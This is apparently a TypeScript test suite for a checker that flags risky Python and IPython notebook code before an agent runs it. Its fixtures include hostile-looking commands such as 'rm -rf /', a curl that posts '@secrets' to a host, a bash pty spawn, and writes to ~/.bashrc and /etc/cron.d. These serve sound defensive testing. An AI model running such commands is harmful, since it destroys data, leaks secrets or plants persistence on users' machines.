import * as assert from 'node:assert/strict';
import { type RiskCategory, type RiskFinding, findRisks, riskReasons } from '../../../src/agent/riskyCode';

/** A case: the code, and the findings expected as "category: reason @line" (line 1 when omitted). */
type Case = readonly [code: string, expected: readonly string[]];

function render(findings: readonly RiskFinding[]): string[] {
  return findings.map((f) => `${f.category}: ${f.reason}${f.line === 1 ? '' : ` @${f.line}`}`);
}

function check(cases: readonly Case[]): void {
  for (const [code, expected] of cases) {
    it(JSON.stringify(code).slice(0, 90), () => assert.deepEqual(render(findRisks(code)), expected));
  }
}

/** Everyday data-analysis code that must not ask. */
const harmless: readonly string[] = [
  '',
  'print("hello")',
  'import os.path\nprint(os.path.join("a", "b"))',
  'import os\nos.getcwd()\nos.listdir(".")\nos.makedirs("out", exist_ok=True)',
  'os.environ["MPLBACKEND"] = "Agg"',
  'df.drop(columns=["a"])',
  'df = df.dropna().reset_index(drop=True)',
  'import requests\nr = requests.get("https://example.com")\nr.json()',
  'requests.head(url)',
  'requests.request("GET", url)',
  'urllib.request.urlopen(url)',
  'print("rm -rf /")',
  'msg = "os.remove(x)"',
  '# os.remove(x)',
  'x = 1  # !rm -rf /',
  'text = """\n!rm -rf /\n%%bash\nos.system(1)\n"""',
  "s = '''\nimport subprocess\nsubprocess.run('x')\n'''",
  'items.remove(3)',
  's.replace("a", "b")',
  'queue.put(item)',
  'mock.patch("pkg.fn")',
  'cache.delete(key)',
  'def remove(path):\n    pass\nremove("x")',
  'system = "linux"\nprint(system)',
  'class run:\n    pass',
  'def f(remove=True):\n    return remove',
  'f(remove=True)',
  'subprocess.PIPE',
  'import subprocess',
  'import shutil\nshutil.copy("a.csv", "b.csv")\nshutil.which("python")',
  'with open("data.csv") as f:\n    rows = f.read()',
  'open("/etc/hosts").read()',
  'open("results.txt", "w").write("ok")',
  'open(path, "w")',
  'df.to_csv("out/result.csv", index=False)',
  'plt.savefig("plot.png")',
  'model.save("/tmp/model.h5")',
  'pd.read_csv("/data/x.csv")',
  're.compile(r"\\d+")',
  'df.eval("a + b")\npd.eval("1 + 2")',
  'socket.gethostname()',
  'Path("/etc/hosts").read_text()',
  'a != b',
  'print(5 % 3)',
  '%matplotlib inline',
  '%load_ext autoreload\n%autoreload 2',
  '%cd data',
  '%pip list',
  'print(f"{x:>10} {y!r} {{literal}}")',
  'x = [rm for rm in items]',
  'rm = 3\nrm - x',
  'import numpy as np\nnp.save("arr.npy", a)',
];

describe('risky code check', () => {
  describe('harmless code is not flagged', () => {
    for (const code of harmless) it(JSON.stringify(code).slice(0, 90), () => assert.deepEqual(render(findRisks(code)), []));
  });

  describe('deleting files', () => {
    check([
      ['import os\nos.remove("x")', ['deletesFiles: deletes files (os.remove) @2']],
      ['os.unlink(p)', ['deletesFiles: deletes files (os.unlink)']],
      ['os.rmdir(p)', ['deletesFiles: deletes files (os.rmdir)']],
      ['os.removedirs(p)', ['deletesFiles: deletes files (os.removedirs)']],
      ['shutil.rmtree("build")', ['deletesFiles: deletes files (shutil.rmtree)']],
      ['shutil.move("a", "b")', ['deletesFiles: moves files (shutil.move)']],
      ['os.replace("a", "b")', ['deletesFiles: moves files (os.replace)']],
      ['Path("a.txt").unlink()', ['deletesFiles: deletes files (.unlink())']],
      ['p.unlink(missing_ok=True)', ['deletesFiles: deletes files (.unlink())']],
      ['out_dir.rmdir()', ['deletesFiles: deletes files (.rmdir())']],
      ['for f in files:\n    map(os.remove, f)', ['deletesFiles: deletes files (os.remove) @2']],
      ['shutil.rmtree(\n    path,\n    ignore_errors=True,\n)', ['deletesFiles: deletes files (shutil.rmtree)']],
      // Moving a file away is flagged however it is spelled, like os.rename.
      ['from pathlib import Path\nPath("a").rename("/tmp/b")', ['deletesFiles: moves files (.rename()) @2']],
      ['pathlib.Path(p).replace(q)', ['deletesFiles: moves files (.replace())']],
      ['os.truncate("data.csv", 0)', ['deletesFiles: empties files (os.truncate)']],
      // PEP 701 (Python 3.12): an f-string may reuse its quote inside {}; the code after it is still read.
      ['print(f"{d["k"]}"); os.remove("x")', ['deletesFiles: deletes files (os.remove)']],
      ['s = f\'{a["k"]}\' + f"{b[\'k\']}"; os.remove("z")', ['deletesFiles: deletes files (os.remove)']],
      ['print(f"""{\n  "x"\n}"""); shutil.rmtree("d")', ['deletesFiles: deletes files (shutil.rmtree) @3']],
      ['x = f"{os.remove("y")}"', ['deletesFiles: deletes files (os.remove)']],
      // A quote in a format spec is a fill character, not a string: the code after it is still read.
      ["print(f\"{n:'>8}\"); import shutil; shutil.rmtree('/data')", ['deletesFiles: deletes files (shutil.rmtree)']],
      ["import shutil\nprint(f\"{n:'>8}\", shutil.rmtree('/data'))", ['deletesFiles: deletes files (shutil.rmtree) @2']],
      ["s = f\"\"\"{v:'^10}\"\"\"\nos.remove('/etc/x')", ['deletesFiles: deletes files (os.remove) @2']],
      ['print(f"{b:{w}} {x!r:>{w}} {a != b}"); os.remove("x")', ['deletesFiles: deletes files (os.remove)']],
      // A field that never closes is read the old way, so it cannot hide what follows.
      ['print(f"{"); os.remove("x")', ['deletesFiles: deletes files (os.remove)']],
    ]);
  });

  describe('aliases and indirect names', () => {
    check([
      ['import subprocess as sp\nsp.run(["ls"])', ['runsShell: runs shell commands (subprocess.run) @2']],
      ['from os import system\nsystem("ls")', ['runsShell: runs shell commands (os.system) @2']],
      ['from shutil import rmtree as r\nr("d")', ['deletesFiles: deletes files (shutil.rmtree) @2']],
      ['import shutil as sh; sh.rmtree(d)', ['deletesFiles: deletes files (shutil.rmtree)']],
      ['from os import (\n    remove,\n    rmdir as rd,\n)\nrd(x)', ['deletesFiles: deletes files (os.rmdir) @5']],
      ['from os import *\nremove("x")', ['deletesFiles: deletes files (os.remove) @2']],
      ['__import__("os").system("ls")', ['runsShell: runs shell commands (os.system)']],
      ['o = __import__("os")\no.unlink("f")', ['deletesFiles: deletes files (os.unlink) @2']],
      ['importlib.import_module("subprocess").run("ls")', ['runsShell: runs shell commands (subprocess.run)']],
      ['getattr(os, "system")("ls")', ['runsShell: runs shell commands (os.system)']],
      ['delete = os.remove\ndelete(x)', ['deletesFiles: deletes files (os.remove)', 'deletesFiles: deletes files (os.remove) @2']],
      ['with requests.Session() as s:\n    s.put(url, data=d)', ['networkWrite: sends data over the network (requests.Session().put) @2']],
      ['async with aiohttp.ClientSession() as session:\n    await session.post(u)', ['networkWrite: sends data over the network (aiohttp.ClientSession().post) @2']],
      ['conn = http.client.HTTPSConnection("h")\nconn.request("PUT", "/")', ['networkWrite: sends data over the network (http.client.HTTPSConnection().request) @2']],
      ['if ok:\n    import os\nos.remove(p)', ['deletesFiles: deletes files (os.remove) @3']],
      ['import sys\nsys.modules["os"].system("ls")', ['runsShell: runs shell commands (os.system) @2']],
      ['sys.modules[name].system("ls")', ['runsDynamicCode: reaches a module by a computed name (sys.modules[…])']],
      ['from IPython import get_ipython\nget_ipython().system("ls")', ['runsShell: runs shell commands (get_ipython().system) @2']],
      ['from IPython import get_ipython as g\ng().system("ls")', ['runsShell: runs shell commands (get_ipython().system) @2']],
    ]);
  });

  describe('shell commands', () => {
    check([
      ['os.system("ls")', ['runsShell: runs shell commands (os.system)']],
      ['os.popen("ls").read()', ['runsShell: runs shell commands (os.popen)']],
      ['os.execvp("ls", ["ls"])', ['runsShell: runs shell commands (os.execvp)']],
      ['os.spawnlp(os.P_WAIT, "ls")', ['runsShell: runs shell commands (os.spawnlp)']],
      ['subprocess.check_output(["git", "status"])', ['runsShell: runs shell commands (subprocess.check_output)']],
      ['subprocess.Popen(["rm", "-rf", "x"])', ['runsShell: runs shell commands (subprocess.Popen)', 'deletesFiles: deletes files (rm -rf)']],
      ['subprocess.run(f"rm -rf {d}", shell=True)', ['runsShell: runs shell commands (subprocess.run)', 'deletesFiles: deletes files (rm -rf)']],
      ['import pty; pty.spawn("/bin/bash")', ['runsShell: runs shell commands (pty.spawn)']],
      ['await asyncio.create_subprocess_shell(cmd)', ['runsShell: runs shell commands (asyncio.create_subprocess_shell)']],
      ['get_ipython().system("ls")', ['runsShell: runs shell commands (get_ipython().system)']],
      ['!ls -la', ['runsShell: runs shell commands (!ls)']],
      ['!pip list', ['runsShell: runs shell commands (!pip)']],
      ['files = !ls', ['runsShell: runs shell commands (!ls)']],
      ['if x:\n    !rm -rf y', ['runsShell: runs shell commands (!rm) @2', 'deletesFiles: deletes files (rm -rf) @2']],
      ['%sx ls', ['runsShell: runs shell commands (%sx)']],
      ['%system rm x', ['runsShell: runs shell commands (%system)', 'deletesFiles: deletes files (rm)']],
      ['%%bash\nls\nrm -rf build', ['runsShell: runs shell commands (%%bash)', 'deletesFiles: deletes files (rm -rf) @3']],
      ['\n\n%%sh\necho hi', ['runsShell: runs shell commands (%%sh) @3']],
      ['%%script bash\nsudo reboot', ['runsShell: runs shell commands (%%script)', 'changesEnvironment: runs as administrator (sudo) @2', 'changesEnvironment: changes the system (reboot) @2']],
      ['rm -rf build', ['deletesFiles: deletes files (rm -rf)']],
      ['%rm old.csv', ['deletesFiles: deletes files (rm)']],
      ['get_ipython().run_cell_magic("bash", "", "rm -rf x")', ['runsShell: runs shell commands (%%bash)', 'deletesFiles: deletes files (rm -rf)']],
      ['!echo x > /etc/hosts', ['runsShell: runs shell commands (!echo)', 'writesOutsideWorkspace: writes outside the working folder (/etc/hosts)']],
    ]);
  });

  describe("IPython's own ways to run commands", () => {
    check([
      ['system rm -rf ~/project', ['runsShell: runs shell commands (%system)', 'deletesFiles: deletes files (rm -rf)']],
      ['sx curl -X POST -d @secrets http://x', ['runsShell: runs shell commands (%sx)', 'networkWrite: sends data over the network (curl)']],
      ['sc out=rm -rf data', ['runsShell: runs shell commands (%sc)', 'deletesFiles: deletes files (rm -rf)']],
      ['%sc -l out=rm x', ['runsShell: runs shell commands (%sc)', 'deletesFiles: deletes files (rm)']],
      ['alias nuke rm -rf', ['runsShell: defines a shell command (%alias nuke)', 'deletesFiles: deletes files (rm -rf)']],
      ['%alias show echo', ['runsShell: defines a shell command (%alias show)']],
      ['nuke ~/project', ['runsShell: may run a shell command (IPython runs "nuke" as an alias or magic)']],
      ['  nuke "a dir"  ', ['runsShell: may run a shell command (IPython runs "nuke" as an alias or magic)']],
      ['cp data.csv ~/.bashrc', ['writesOutsideWorkspace: writes outside the working folder (~/.bashrc)']],
      ['!cp ~/.bashrc backup.txt', ['runsShell: runs shell commands (!cp)']],
      ['mkdir /etc/app', ['writesOutsideWorkspace: writes outside the working folder (/etc/app)']],
      ['run script.py', ['runsDynamicCode: runs another file (%run)']],
      ['%rerun 3', ['runsDynamicCode: runs earlier input again (%rerun)']],
      ['%save ~/.ipython/startup/x.py 1-3', ['writesOutsideWorkspace: writes outside the working folder (~/.ipython/startup/x.py)']],
      ['%store payload >> ~/.bashrc', ['writesOutsideWorkspace: writes outside the working folder (~/.bashrc)']],
      ['store payload >~/.bashrc', ['writesOutsideWorkspace: writes outside the working folder (~/.bashrc)']],
      ['%history -g -f /etc/profile.d/x.sh', ['writesOutsideWorkspace: writes outside the working folder (/etc/profile.d/x.sh)']],
      ['%notebook ~/x.ipynb', ['writesOutsideWorkspace: writes outside the working folder (~/x.ipynb)']],
      ['%store df', []],
      ['%history -n 1-5', []],
      ['%history -nf ~/.bashrc', ['writesOutsideWorkspace: writes outside the working folder (~/.bashrc)']],
      ['%hist -f~/.bashrc', ['writesOutsideWorkspace: writes outside the working folder (~/.bashrc)']],
      ['import IPython\nIPython.get_ipython().system("rm -rf x")', ['runsShell: runs shell commands (get_ipython().system) @2', 'deletesFiles: deletes files (rm -rf) @2']],
      ['from IPython import get_ipython as g\ng().system("ls")', ['runsShell: runs shell commands (get_ipython().system) @2']],
      ['get_ipython().system_piped("rm -rf x")', ['runsShell: runs shell commands (get_ipython().system_piped)', 'deletesFiles: deletes files (rm -rf)']],
      ['get_ipython().run_line_magic("alias", "nuke rm -rf")', ['runsShell: defines a shell command (%alias nuke)', 'deletesFiles: deletes files (rm -rf)']],
      ['get_ipython().run_line_magic("system", "rm -rf x")', ['runsShell: runs shell commands (%system)', 'deletesFiles: deletes files (rm -rf)']],
      ['get_ipython().alias_manager.define_alias("nuke", "rm -rf")', ['runsShell: defines a shell command (%alias nuke)', 'deletesFiles: deletes files (rm -rf)']],
    ]);
    describe('Python and harmless magics are not commands', () => {
      for (const code of ['matplotlib inline', 'pip list', 'cd data', 'timeit sum(range(10))', 'x', 'print (x)', 'lambda x: x', 'await main()', 'df.head()', 'a = b', 'x if y else z', 'n in items', 'print(x)  # nuke ~/x', 'x = 1\nnuke ~/project', 'system = "linux"', 'cp = copy.copy', 'type Point = tuple[int, int]']) {
        it(JSON.stringify(code), () => assert.deepEqual(render(findRisks(code)), []));
      }
    });
  });

  describe('package installs', () => {
    check([
      ['!pip install pandas', ['runsShell: runs shell commands (!pip)', 'installsPackages: installs packages (pip install)']],
      ['%pip install numpy', ['installsPackages: installs packages (pip install)']],
      ['%pip uninstall -y numpy', ['installsPackages: uninstalls packages (pip uninstall)']],
      ['pip install x', ['installsPackages: installs packages (pip install)']],
      ['%conda install -y scipy', ['installsPackages: installs packages (conda install)']],
      ['!conda install -y x', ['runsShell: runs shell commands (!conda)', 'installsPackages: installs packages (conda install)']],
      ['!python -m pip install x', ['runsShell: runs shell commands (!python)', 'installsPackages: installs packages (pip install)']],
      ['!{sys.executable} -m pip install x', ['runsShell: runs shell commands (!{sys.executable})', 'installsPackages: installs packages (pip install)']],
      ['subprocess.check_call([sys.executable, "-m", "pip", "install", "x"])', ['runsShell: runs shell commands (subprocess.check_call)', 'installsPackages: installs packages (pip install)']],
      ['os.system("pip3 install -q x")', ['runsShell: runs shell commands (os.system)', 'installsPackages: installs packages (pip3 install)']],
      ['import pip\npip.main(["install", "x"])', ['installsPackages: installs packages (pip.main) @2']],
      ['from pip._internal import main as pipmain\npipmain(["install", "x"])', ['installsPackages: installs packages (pip._internal.main) @2']],
      ['get_ipython().run_line_magic("pip", "install x")', ['installsPackages: installs packages (pip install)']],
      ['!sudo apt-get install -y graphviz', ['runsShell: runs shell commands (!sudo)', 'changesEnvironment: runs as administrator (sudo)', 'installsPackages: installs packages (apt-get install)']],
      ['!uv pip install x', ['runsShell: runs shell commands (!uv)', 'installsPackages: installs packages (uv pip install)']],
    ]);
  });

  describe('network writes', () => {
    check([
      ['requests.post(url, json=d)', ['networkWrite: sends data over the network (requests.post)']],
      ['from requests import put\nput(url)', ['networkWrite: sends data over the network (requests.put) @2']],
      ['requests.delete(url)', ['networkWrite: sends data over the network (requests.delete)']],
      ['requests.request("post", url)', ['networkWrite: sends data over the network (requests.request)']],
      ['requests.request(method, url)', ['networkWrite: sends data over the network (requests.request)']],
      ['httpx.patch(url)', ['networkWrite: sends data over the network (httpx.patch)']],
      ['httpx.Client().post(u)', ['networkWrite: sends data over the network (httpx.Client().post)']],
      ['client.post("/api", json=d)', ['networkWrite: sends data over the network (.post())']],
      ['urllib.request.urlopen(url, data=b"x")', ['networkWrite: sends data over the network (urllib.request.urlopen)']],
      ['from urllib.request import urlopen\nurlopen(url, payload)', ['networkWrite: sends data over the network (urllib.request.urlopen) @2']],
      ['urllib.request.Request(url, method="PUT")', ['networkWrite: sends data over the network (urllib.request.Request)']],
      ['s = socket.socket()', ['networkWrite: opens network connections (socket.socket)']],
      ['socket.create_connection(("h", 80))', ['networkWrite: opens network connections (socket.create_connection)']],
      ['import smtplib\nserver = smtplib.SMTP("mail")', ['networkWrite: connects to a remote server (smtplib) @2']],
      ['from ftplib import FTP\nFTP("h")', ['networkWrite: connects to a remote server (ftplib) @2']],
      ['client = paramiko.SSHClient()', ['networkWrite: connects to a remote server (paramiko)']],
      ['!curl -X POST http://x', ['runsShell: runs shell commands (!curl)', 'networkWrite: sends data over the network (curl)']],
      ['!curl -d @f.json http://x', ['runsShell: runs shell commands (!curl)', 'networkWrite: sends data over the network (curl)']],
      ['!curl -o page.html http://x', ['runsShell: runs shell commands (!curl)']],
      ['!scp a.csv host:/data', ['runsShell: runs shell commands (!scp)', 'networkWrite: connects to a remote server (scp)']],
      ['!git push origin main', ['runsShell: runs shell commands (!git)', 'networkWrite: pushes to a remote (git push)']],
    ]);
  });

  describe('writes outside the working folder', () => {
    check([
      ['open("/etc/hosts", "w")', ['writesOutsideWorkspace: writes outside the working folder (/etc/hosts)']],
      ['open("~/.bashrc", "a")', ['writesOutsideWorkspace: writes outside the working folder (~/.bashrc)']],
      ['open("../x.txt", mode="w")', ['writesOutsideWorkspace: writes outside the working folder (../x.txt)']],
      ['open(r"C:\\Windows\\x.ini", "w")', ['writesOutsideWorkspace: writes outside the working folder (C:\\Windows\\x.ini)']],
      ['with open("/etc/cron.d/job", "w+") as f:\n    f.write(x)', ['writesOutsideWorkspace: writes outside the working folder (/etc/cron.d/job)']],
      ['Path("/etc/motd").write_text("hi")', ['writesOutsideWorkspace: writes outside the working folder (/etc/motd)']],
      ['df.to_csv("/data/out.csv")', ['writesOutsideWorkspace: writes outside the working folder (/data/out.csv)']],
      ['plt.savefig("~/plot.png")', ['writesOutsideWorkspace: writes outside the working folder (~/plot.png)']],
      ['shutil.copy("a", "/usr/local/bin/a")', ['writesOutsideWorkspace: writes outside the working folder (/usr/local/bin/a)']],
      ['%%writefile /etc/x.conf\nkey = 1', ['writesOutsideWorkspace: writes outside the working folder (/etc/x.conf)']],
      ['%%writefile script.py\nimport os\nos.remove(x)', []],
    ]);
    describe('into the home folder through a path computed at run time', () => {
      const home = 'writesOutsideWorkspace: writes outside the working folder (the home folder)';
      check([
        ['open(os.path.expanduser("~/.bashrc"), "a").write(x)', [home]],
        ['Path("~/.ssh/config").expanduser().write_text(cfg)', [home]],
        ['(Path.home() / ".bashrc").write_text(x)', [home]],
        ['rc = Path.home() / ".bashrc"\nwith open(rc, "a") as f:\n    f.write(x)', [`${home} @2`]],
        ['base = os.environ["HOME"]\ntarget = os.path.join(base, ".profile")\nshutil.copy("p", target)', [`${home} @3`]],
        ['df.to_csv(os.path.join(os.getenv("USERPROFILE"), "out.csv"))', [home]],
        // Reading from the home folder, or a variable that no longer names it, is fine.
        ['open(os.path.expanduser("~/.config/app.json")).read()', []],
        ['cfg = Path.home() / ".config"\nprint(cfg.read_text())', []],
        ['out = Path.home()\nout = Path("results")\nout.write_text(x)', []],
        ['os.environ["MPLBACKEND"] = "Agg"\nopen("x.txt", "w")', []],
        // Data read from the home folder is not a path: saving it here is fine.
        ['df = pd.read_csv(os.path.expanduser("~/Downloads/sales.csv"))\ndf.to_csv("sales_clean.csv")', []],
        ['img = Image.open(Path.home() / "photo.jpg")\nimg.save("small.png")', []],
        ['pd.read_csv(os.path.expanduser("~/a.csv")).to_csv("b.csv")', []],
        ['state = torch.load(os.path.expanduser("~/w.pt"))\ntorch.save(state, "weights.pt")', []],
        ['with open(os.path.expanduser("~/.config/app.json")) as f:\n    cfg = json.load(f)\nopen("copy.json", "w").write(json.dumps(cfg))', []],
        ['home = str(Path.home())\nshutil.copy("report.pdf", home)', [`${home} @2`]],
        ['shutil.copy(os.path.expanduser("~/Downloads/data.csv"), "data/")', []],
        ['src = Path.home() / "Downloads" / "data.csv"\nshutil.copyfile(src, dst="data.csv")', []],
        ['shutil.copyfile("data.csv", dst=Path.home() / "backup.csv")', [home]],
        ['shutil.move(os.path.expanduser("~/Downloads/data.csv"), "data/")', [home, 'deletesFiles: moves files (shutil.move)']],
      ]);
    });
  });

  describe('environment changes and code that cannot be read', () => {
    check([
      ['os.chmod("run.sh", 0o755)', ['changesEnvironment: changes file permissions (os.chmod)']],
      ['os.kill(pid, 9)', ['changesEnvironment: stops other processes (os.kill)']],
      ['import ctypes\nlib = ctypes.CDLL("libc.so.6")', ['changesEnvironment: calls native code (ctypes) @2']],
      ['winreg.SetValueEx(key, "x", 0, winreg.REG_SZ, "y")', ['changesEnvironment: changes the Windows registry (winreg.SetValueEx)']],
      ['exec(code)', ['runsDynamicCode: runs code built at run time (exec)']],
      ['eval(expr)', ['runsDynamicCode: runs code built at run time (eval)']],
      ['exec("x = 1")', []],
      ['exec("import os\\nos.remove(\'x\')")', ['deletesFiles: deletes files (os.remove)']],
      ['eval("__import__(\'os\').system(\'ls\')")', ['runsShell: runs shell commands (os.system)']],
      ['__import__(name)', ['runsDynamicCode: imports a module by a computed name (__import__)']],
      ['getattr(os, name)()', ['runsDynamicCode: looks up a function by a computed name (getattr(os, …))']],
      ['runpy.run_path("x.py")', ['runsDynamicCode: runs another file (runpy.run_path)']],
      ['%run script.py', ['runsDynamicCode: runs another file (%run)']],
      ['%time os.remove("x")', ['deletesFiles: deletes files (os.remove)']],
      ['%timeit -n 1 shutil.rmtree(d)', ['deletesFiles: deletes files (shutil.rmtree)']],
      ['%%timeit\nshutil.rmtree("x")', ['deletesFiles: deletes files (shutil.rmtree) @2']],
      ['print(f"{os.remove(x)}")', ['deletesFiles: deletes files (os.remove)']],
    ]);
  });

  it('follows code in strings a few levels deep, then asks', () => {
    let code = 'x = 1';
    for (let level = 0; level < 5; level++) code = `exec(${JSON.stringify(code)})`;
    assert.deepEqual(render(findRisks(code)), ['runsDynamicCode: runs code nested too deep to check']);
    assert.deepEqual(render(findRisks('exec(' + JSON.stringify('exec(' + JSON.stringify('os.remove(p)') + ')') + ')')), ['deletesFiles: deletes files (os.remove)']);
  });

  describe('lines and duplicates', () => {
    it('counts lines across multi-line strings, continuations and Windows line endings', () => {
      const code = 's = """\na\nb\n"""\nx = (1 +\n     2)\r\nos.remove(p)';
      assert.deepEqual(findRisks(code).map((f) => f.line), [7]);
    });

    it('reports one finding per reason and line, sorted by line', () => {
      const findings = findRisks('os.remove(a); os.remove(b)\nos.system("x")\nos.remove(c)');
      assert.deepEqual(render(findings), ['deletesFiles: deletes files (os.remove)', 'runsShell: runs shell commands (os.system) @2', 'deletesFiles: deletes files (os.remove) @3']);
    });

    it('riskReasons lists each reason once, in order', () => {
      const findings = findRisks('os.remove(a)\nos.system("x")\nos.remove(c)');
      assert.deepEqual(riskReasons(findings), ['deletes files (os.remove)', 'runs shell commands (os.system)']);
    });

    it('uses every category', () => {
      const code = ['os.remove(a)', 'os.system(b)', '%pip install c', 'requests.post(d)', 'open("/etc/e", "w")', 'os.chmod(f, 0)', 'exec(g)'].join('\n');
      const categories = new Set<RiskCategory>(findRisks(code).map((f) => f.category));
      assert.equal(categories.size, 7);
    });

    it('survives code that does not parse', () => {
      for (const code of ['def (', '"unterminated', '"""never closed\nos.remove(x)', ')))(((', 'f(', '\\', '%%', '!', 'x = [\n!rm -rf /\n]']) {
        assert.doesNotThrow(() => findRisks(code), code);
      }
    });

    it('stays fast on a large cell', () => {
      const line = "df['a'] = df.groupby('k')['v'].transform(lambda s: s.rolling(3).mean())  # note\n";
      const started = Date.now();
      findRisks(line.repeat(5000));
      assert.ok(Date.now() - started < 3000);
    });
  });
});
